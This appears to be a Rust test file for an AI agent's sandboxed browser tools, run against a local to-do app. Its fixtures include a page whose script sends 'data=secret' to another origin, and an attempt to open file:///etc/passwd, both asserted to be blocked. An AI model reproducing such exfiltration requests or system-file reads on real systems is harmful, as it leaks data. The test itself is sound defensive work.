//! The user-testing agent's browser (`missions::browser`) against a real
//! headless Chromium and a small to-do app served from the test: the stories a
//! QA engineer would walk through, tool call by tool call, as the model makes
//! them.
//!
//! Needs Chromium (`/usr/bin/chromium`, or `$MISSIONS_CHROMIUM`); without it
//! these tests fail (set `MISSIONS_SKIP_BROWSER=1` to skip them).

use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::extract::State;
use axum::response::{Html, Redirect};
use axum::routing::{get, post};
use axum::{Form, Router};
use missions::browser::{BrowserConfig, BrowserError, BrowserOutput, BrowserTools};
use serde::Deserialize;
use serde_json::{Value, json};

// The tools can be shared between tasks, and `call`'s future can move to
// another one (the agent loop boxes it as `Send`).
const _: fn(&BrowserTools) = |tools| {
    fn send<T: Send>(_: T) {}
    fn shared<T: Send + Sync>() {}
    shared::<BrowserTools>();
    send(tools.call("browser_console", &Value::Null));
};

fn chromium() -> PathBuf {
    std::env::var_os("MISSIONS_CHROMIUM")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/usr/bin/chromium"))
}

/// Whether the test should go on: false (skip) only when Chromium is missing
/// and MISSIONS_SKIP_BROWSER=1 says that is fine.
fn chromium_present() -> bool {
    if chromium().exists() {
        return true;
    }
    let why = format!(
        "the browser tests need Chromium at {}: `apt-get install chromium` (or set \
         MISSIONS_CHROMIUM to a Chrome binary)",
        chromium().display()
    );
    if std::env::var("MISSIONS_SKIP_BROWSER").as_deref() == Ok("1") {
        eprintln!("skipped (MISSIONS_SKIP_BROWSER=1): {why}");
        return false;
    }
    panic!("{why}; or set MISSIONS_SKIP_BROWSER=1 to skip them");
}

/// The app under test: a to-do list with a form, a page that logs an error,
/// and pages that try to reach another origin.
#[derive(Clone)]
struct App {
    items: Arc<Mutex<Vec<(String, String)>>>,
    elsewhere: SocketAddr,
}

#[derive(Deserialize)]
struct NewItem {
    title: String,
    priority: String,
}

fn escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

async fn index(State(app): State<App>) -> Html<String> {
    let items: String = app
        .items
        .lock()
        .unwrap()
        .iter()
        .map(|(title, priority)| format!("<li>{} ({})</li>", escape(title), escape(priority)))
        .collect();
    Html(format!(
        r#"<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>To-do</title></head>
<body>
  <h1>To-do</h1>
  <form method="post" action="/add">
    <label>Title <input name="title" required></label>
    <label>Priority
      <select name="priority">
        <option value="low">Low</option>
        <option value="normal" selected>Normal</option>
        <option value="high">High</option>
      </select>
    </label>
    <button type="submit">Add</button>
  </form>
  <ul id="items">{items}</ul>
</body></html>"#
    ))
}

async fn add(State(app): State<App>, Form(item): Form<NewItem>) -> Redirect {
    app.items.lock().unwrap().push((item.title, item.priority));
    Redirect::to("/")
}

async fn boom() -> Html<&'static str> {
    Html(
        r#"<!doctype html><html><head><title>Boom</title></head>
<body><p>This page logs an error.</p><script>console.error("boom");</script></body></html>"#,
    )
}

/// A page that tries to load from, and send to, another origin.
async fn leaky(State(app): State<App>) -> Html<String> {
    let other = format!("http://{}", app.elsewhere);
    Html(format!(
        r#"<!doctype html><html><head><title>Leaky</title></head><body>
<img src="{other}/pixel.png">
<iframe src="{other}/frame"></iframe>
<script>fetch("{other}/collect?data=secret").catch(() => {{}});</script>
<p>Leaky page</p></body></html>"#
    ))
}

/// Starts the app, and a second server on another port (another origin, the
/// same loopback host, so only the request interception can keep the browser
/// off it) that counts the requests it gets.
async fn serve() -> (String, String, Arc<AtomicUsize>) {
    let hits = Arc::new(AtomicUsize::new(0));
    let counted = hits.clone();
    let elsewhere = Router::new().fallback(move || {
        let counted = counted.clone();
        async move {
            counted.fetch_add(1, Ordering::SeqCst);
            Html("<title>Elsewhere</title><p>you should not be here</p>")
        }
    });
    let other = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let other_addr = other.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(other, elsewhere).await.unwrap() });

    let app = App {
        items: Arc::default(),
        elsewhere: other_addr,
    };
    let away = format!("http://{other_addr}/");
    let router = Router::new()
        .route("/", get(index))
        .route("/add", post(add))
        .route("/boom", get(boom))
        .route("/leaky", get(leaky))
        .route("/away", get(move || async move { Redirect::to(&away) }))
        .with_state(app);
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, router).await.unwrap() });
    (
        format!("http://{addr}"),
        format!("http://{other_addr}"),
        hits,
    )
}

/// `RUST_LOG=chromiumoxide=debug` shows the DevTools traffic's troubles.
fn trace() {
    let _ = tracing_subscriber::fmt()
        .with_env_filter(tracing_subscriber::EnvFilter::from_default_env())
        .with_test_writer()
        .try_init();
}

async fn browser(origin: &str, screenshots: &Path) -> BrowserTools {
    trace();
    let mut config = BrowserConfig::new(vec![origin.to_owned()], screenshots.to_owned());
    config.chromium = chromium();
    BrowserTools::launch(config).await.expect("Chromium starts")
}

/// Calls a tool that must succeed, and returns its text.
async fn ok(tools: &BrowserTools, name: &str, input: Value) -> String {
    let out = tools.call(name, &input).await;
    assert!(!out.is_error, "{name} {input} failed: {}", out.content);
    println!(
        "{name} {input}\n  -> {}",
        out.content.replace('\n', "\n     ")
    );
    out.content
}

/// Calls a tool that must fail, and returns its message.
async fn refused(tools: &BrowserTools, name: &str, input: Value) -> String {
    let out: BrowserOutput = tools.call(name, &input).await;
    assert!(
        out.is_error,
        "{name} {input} should fail but said: {}",
        out.content
    );
    println!("{name} {input}\n  -> error: {}", out.content);
    out.content
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tester_adds_a_todo_through_the_form_and_sees_it_on_the_page() {
    if !chromium_present() {
        return;
    }
    let (origin, _, _) = serve().await;
    let shots = tempfile::tempdir().unwrap();
    let tools = browser(&origin, shots.path()).await;

    let opened = ok(&tools, "browser_open", json!({"url": format!("{origin}/")})).await;
    assert!(
        opened.contains("To-do") && opened.contains(&origin),
        "{opened}"
    );

    let typed = ok(
        &tools,
        "browser_type",
        json!({"selector": "input[name=title]", "text": "Buy oat milk"}),
    )
    .await;
    assert!(typed.contains("\"Buy oat milk\""), "{typed}");
    let selected = ok(
        &tools,
        "browser_select",
        json!({"selector": "select[name=priority]", "value": "High"}),
    )
    .await;
    assert!(selected.contains("\"high\""), "{selected}");
    let submitted = ok(&tools, "browser_submit", json!({"selector": "form"})).await;
    assert!(
        submitted.contains("led to"),
        "the POST redirects to /: {submitted}"
    );

    ok(
        &tools,
        "browser_wait_for_text",
        json!({"text": "Buy oat milk"}),
    )
    .await;
    let text = ok(&tools, "browser_read", json!({"format": "text"})).await;
    assert!(text.contains("Buy oat milk (high)"), "{text}");
    let tree = ok(&tools, "browser_read", json!({"format": "accessibility"})).await;
    assert!(tree.contains("listitem"), "{tree}");
    assert!(tree.contains("textbox \"Title\""), "{tree}");
    assert!(tree.contains("button \"Add\""), "{tree}");

    let saved = ok(&tools, "browser_screenshot", json!({"name": "after add/1"})).await;
    assert!(saved.starts_with("saved 01-after-add-1.png"), "{saved}");
    let shot = shots.path().join("01-after-add-1.png");
    assert_eq!(tools.screenshots(), std::slice::from_ref(&shot));
    let png = std::fs::read(&shot).unwrap();
    assert_eq!(&png[..8], b"\x89PNG\r\n\x1a\n", "a PNG file");
    assert_eq!(&png[12..16], b"IHDR");
    let width = u32::from_be_bytes(png[16..20].try_into().unwrap());
    let height = u32::from_be_bytes(png[20..24].try_into().unwrap());
    assert!(width > 0 && height > 0, "{width}x{height}");

    assert_eq!(ok(&tools, "browser_console", json!({})).await, "none");
    tools.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tester_clicks_by_text_and_is_told_what_the_form_refused() {
    if !chromium_present() {
        return;
    }
    let (origin, _, _) = serve().await;
    let shots = tempfile::tempdir().unwrap();
    let tools = browser(&origin, shots.path()).await;
    ok(&tools, "browser_open", json!({"url": format!("{origin}/")})).await;

    // The title is required: the browser will not send the form.
    let why = refused(&tools, "browser_submit", json!({"selector": "button"})).await;
    assert!(
        why.contains("validation failed") && why.contains("title:"),
        "{why}"
    );

    ok(
        &tools,
        "browser_type",
        json!({"selector": "[name=title]", "text": "Call mum"}),
    )
    .await;
    let clicked = ok(&tools, "browser_click", json!({"text": "add"})).await;
    assert!(
        clicked.contains("<button") && clicked.contains("led to"),
        "{clicked}"
    );
    ok(
        &tools,
        "browser_wait_for_text",
        json!({"text": "Call mum (normal)", "timeout_secs": 5}),
    )
    .await;

    let both = refused(
        &tools,
        "browser_click",
        json!({"selector": "a", "text": "b"}),
    )
    .await;
    assert!(both.contains("exactly one"), "{both}");
    tools.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tester_reads_the_error_a_page_logs_to_the_console() {
    if !chromium_present() {
        return;
    }
    let (origin, _, _) = serve().await;
    let shots = tempfile::tempdir().unwrap();
    let tools = browser(&origin, shots.path()).await;

    ok(
        &tools,
        "browser_open",
        json!({"url": format!("{origin}/boom")}),
    )
    .await;
    ok(
        &tools,
        "browser_wait_for_text",
        json!({"text": "logs an error"}),
    )
    .await;
    let console = ok(&tools, "browser_console", json!({})).await;
    assert!(console.contains("console.error: boom"), "{console}");
    // Read once: the next call reports only what came after.
    assert_eq!(ok(&tools, "browser_console", json!({})).await, "none");
    tools.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_browser_goes_nowhere_but_the_app_under_test() {
    if !chromium_present() {
        return;
    }
    let (origin, elsewhere, hits) = serve().await;
    let shots = tempfile::tempdir().unwrap();
    let tools = browser(&origin, shots.path()).await;

    let why = refused(
        &tools,
        "browser_open",
        json!({"url": "http://example.com/"}),
    )
    .await;
    assert!(
        why.contains("http://example.com") && why.contains(&origin),
        "{why}"
    );
    let why = refused(
        &tools,
        "browser_open",
        json!({"url": format!("{elsewhere}/")}),
    )
    .await;
    assert!(why.contains("not an allowed origin"), "{why}");
    let why = refused(&tools, "browser_open", json!({"url": "file:///etc/passwd"})).await;
    assert!(why.contains("refused"), "{why}");

    // The app redirects to another origin: the redirected request is failed.
    let why = refused(
        &tools,
        "browser_open",
        json!({"url": format!("{origin}/away")}),
    )
    .await;
    assert!(why.contains("ERR_BLOCKED_BY_CLIENT"), "{why}");
    let console = ok(&tools, "browser_console", json!({})).await;
    assert!(
        console.contains(&format!("refused: a request (document) to {elsewhere}/")),
        "{console}"
    );

    // A page that loads an image from, and posts to, another origin.
    ok(
        &tools,
        "browser_open",
        json!({"url": format!("{origin}/leaky")}),
    )
    .await;
    let mut console = String::new();
    for _ in 0..50 {
        console.push_str(&ok(&tools, "browser_console", json!({})).await);
        if ["pixel.png", "collect?data=secret", "/frame"]
            .iter()
            .all(|url| console.contains(url))
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(console.contains("(image) to"), "{console}");
    assert!(
        console.contains("(fetch) to") || console.contains("(xhr) to"),
        "{console}"
    );
    assert!(
        console.contains("(document) to") && console.contains("/frame"),
        "{console}"
    );
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "nothing reached the other origin"
    );

    // A path is taken relative to the page.
    let home = ok(&tools, "browser_open", json!({"url": "/"})).await;
    assert!(home.contains("To-do"), "{home}");
    tools.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_missing_element_is_reported_once_the_action_timeout_passes() {
    if !chromium_present() {
        return;
    }
    let (origin, _, _) = serve().await;
    let shots = tempfile::tempdir().unwrap();
    let mut config = BrowserConfig::new(vec![origin.clone()], shots.path().to_owned());
    config.chromium = chromium();
    config.action_timeout = Duration::from_secs(2);
    let tools = BrowserTools::launch(config).await.expect("Chromium starts");
    ok(&tools, "browser_open", json!({"url": format!("{origin}/")})).await;

    let started = std::time::Instant::now();
    let why = refused(&tools, "browser_click", json!({"selector": "#save"})).await;
    assert_eq!(why, "no element matches `#save` after 2 s");
    assert!(
        started.elapsed() < Duration::from_secs(4),
        "{:?}",
        started.elapsed()
    );
    let why = refused(
        &tools,
        "browser_wait_for_text",
        json!({"text": "Never shown", "timeout_secs": 1}),
    )
    .await;
    assert!(
        why.contains("did not appear within 1 s") && why.contains("To-do"),
        "{why}"
    );
    let why = refused(
        &tools,
        "browser_select",
        json!({"selector": "select", "value": "urgent"}),
    )
    .await;
    assert!(
        why.contains("\"low\" (Low)"),
        "the options are listed: {why}"
    );
    let why = refused(&tools, "browser_click", json!({"selector": "li:::"})).await;
    assert!(why.contains("not a valid CSS selector"), "{why}");
    let why = refused(&tools, "browser_read", json!({"format": "html"})).await;
    assert!(why.contains("bad input for browser_read"), "{why}");
    tools.close().await;
}

#[tokio::test]
async fn a_missing_chromium_says_how_to_install_it() {
    let mut config = BrowserConfig::new(vec!["http://127.0.0.1:8000".into()], std::env::temp_dir());
    config.chromium = PathBuf::from("/nonexistent/chromium");
    let error = BrowserTools::launch(config)
        .await
        .err()
        .expect("no browser");
    assert!(
        matches!(error, BrowserError::NotInstalled { .. }),
        "{error}"
    );
    let message = error.to_string();
    assert!(message.contains("apt-get install chromium"), "{message}");
    assert!(message.contains("MISSIONS_CHROMIUM"), "{message}");
    assert!(BrowserTools::has("browser_open") && !BrowserTools::has("bash"));
}
